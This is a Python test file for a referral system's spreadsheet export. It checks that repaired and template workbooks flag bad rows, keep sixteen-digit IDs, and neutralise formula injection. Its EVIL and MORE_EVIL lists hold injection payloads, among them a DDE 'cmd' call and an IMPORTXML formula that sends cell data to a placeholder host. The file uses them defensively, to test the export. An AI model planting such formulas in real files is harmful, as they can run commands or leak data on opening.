"""Spreadsheets that go out: to be repaired and sent again, and the template."""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Callable

import pytest
from openpyxl import load_workbook

from locales.texts import Texts
from models.referral.reading.headings import Column, columns_of
from models.referral.reading.listing import Listing, read_listing
from models.referral.reading.problems import FileProblem, Problem, Unreadable
from models.referral.reading.review import Known, Review, Verdict, check_lines, judge
from models.referral.reading.sheets import repair_workbook, template_workbook
from tests.models.referral import files, lists

EVIL = ('=HYPERLINK("http://contoh.example","klik")', "+6281290009001x", "-2+3", "@SUM(A1)", "＝1+1")


def judged(data: bytes, known: Known | None = None) -> Review:
    listing = read_listing(data)
    assert isinstance(listing, Listing), listing
    return judge(listing, check_lines(listing, today=dt.date(2026, 11, 22), area="3201"), known or Known())


def say(problem: Problem) -> str:
    return f"{problem.code.value}!"


def test_only_the_failing_lines_come_back_with_their_reasons_and_coloured_cells() -> None:
    members = [*lists.rows(4)]
    members[1][0], members[3][1], members[3][2] = members[1][0][:15], "", "0812"
    book = load_workbook(io.BytesIO(repair_workbook(judged(lists.xlsx(["Judul"], lists.HEADINGS, *members)), say)))
    lines = [[cell.value or "" for cell in line] for line in book.worksheets[0].iter_rows()]
    assert lines == [
        [*lists.HEADINGS, "alasan"],
        [*members[1], "nik_short!"],
        [*members[3], "name_missing! phone_odd!"],
    ]
    coloured = {
        cell.coordinate
        for line in book.worksheets[0].iter_rows(min_row=2)
        for cell in line
        if cell.fill.fgColor.rgb == "00FFC7CE"
    }
    assert coloured == {"A2", "B3", "C3"}


def test_sent_back_repaired_it_is_ready_and_sent_back_as_it_is_it_still_fails() -> None:
    members = lists.rows(3)
    right = members[1][0]
    members[1][0] = 3.2e15
    back = repair_workbook(judged(lists.xlsx(lists.HEADINGS, *members)), say)
    assert [line.verdict for line in judged(back).lines] == [Verdict.REPAIR]
    book = load_workbook(io.BytesIO(back))
    page = book.worksheets[0]
    assert page["A2"].number_format == "@"
    page["A2"] = right
    again = judged(lists.saved(book))
    assert [member.nik for _, member in again.members] == [right]
    assert again.members[0][1].extra == {}
    assert repair_workbook(again, say)


def test_nothing_that_goes_out_is_a_formula_and_it_comes_back_as_it_was() -> None:
    headings = ["NIK", "Nama", '=cmd|"/c calc"!A1', "Catatan"]
    review = judged(lists.delimited(headings, *([f"1{at}", evil, evil, evil] for at, evil in enumerate(EVIL))))
    back = repair_workbook(review, say)
    cells = [cell for line in load_workbook(io.BytesIO(back)).worksheets[0].iter_rows() for cell in line if cell.value]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(str(cell.value)[0] not in "=+-@＝" for cell in cells)
    again = judged(back)
    assert again.listing.headings[2] == "'" + headings[2] or again.listing.headings[2] == headings[2]
    assert [list(line.row.cells[3:4]) for line in again.lines] == [[f"'{evil}"] for evil in EVIL]


MORE_EVIL = (
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u200b=1+1", "\ufeff@SUM(1)", "=cmd|'/c calc'!A0", "'=1+1", "''=1+1", "＋1+1",
    "－1", "＠SUM(1)", '=IMPORTXML("http://contoh.example/?"&A1,"//a")', "DDE(\"cmd\")", "+1;=1+1", "%0A-1+1",
)  # fmt: skip


@pytest.mark.parametrize("evil", MORE_EVIL)
@pytest.mark.parametrize("make", [lists.xlsx, lists.delimited, files.page, lists.xls])
def test_no_way_of_hiding_a_formula_brings_one_back(evil: str, make: Callable[..., bytes]) -> None:
    """In a cell that was asked for, in another, in a heading, and in the heading of a group."""
    table = [["", "", "", "Anak"], ["NIK", "Nama", evil, evil], ["123", evil, evil, evil]]
    review = judged(make(table) if make is files.page else make(*table))
    book = load_workbook(io.BytesIO(repair_workbook(review, lambda problem: evil)))
    cells = [cell for page in book.worksheets for line in page.iter_rows() for cell in line if cell.value is not None]
    assert len(cells) > 4
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [cell.value for cell in cells if str(cell.value)[0] in "=+-@\t\r\n＝＋－＠"]


def test_a_list_of_text_comes_back_as_a_workbook_too() -> None:
    back = repair_workbook(judged(lists.delimited(["No KTP", "Nama"], ["1", "Siti"], [lists.nik(1), "Budi"])), say)
    assert [line.row.cells[:2] for line in judged(back).lines] == [("1", "Siti")]


def template(texts: Texts) -> bytes:
    headings = [
        texts.text(f"referral.template.{name}") for name in ("nik", "name", "phone", "occupation", "district", "regency")
    ]
    guide = texts.text("referral.template.guide").splitlines()
    return template_workbook(headings, guide, title="Anggota", guide_title="Petunjuk")


def test_the_template_is_empty_and_says_so(texts: Texts) -> None:
    found = read_listing(template(texts))
    assert isinstance(found, Unreadable)
    assert found.code is FileProblem.NO_ROWS


def test_the_template_filled_in_is_a_list_and_its_cells_keep_sixteen_digits(texts: Texts) -> None:
    book = load_workbook(io.BytesIO(template(texts)))
    page = book["Anggota"]
    assert {cell.number_format for line in page["A2:F400"] for cell in line} == {"@"}
    headings = [str(cell.value) for cell in page[1]]
    assert set(columns_of(headings)) == set(Column) - {Column.REASON, Column.BIRTH_DATE}
    for at, value in enumerate([lists.nik(5), "Siti Contoh", "081290009001", "nelayan", "Cibinong", "Bogor"], start=1):
        page.cell(2, at).value = value
    review = judged(lists.saved(book))
    ((line, member),) = review.members
    assert (line, member.nik, member.phone, member.district) == (2, lists.nik(5), "+6281290009001", "320101")
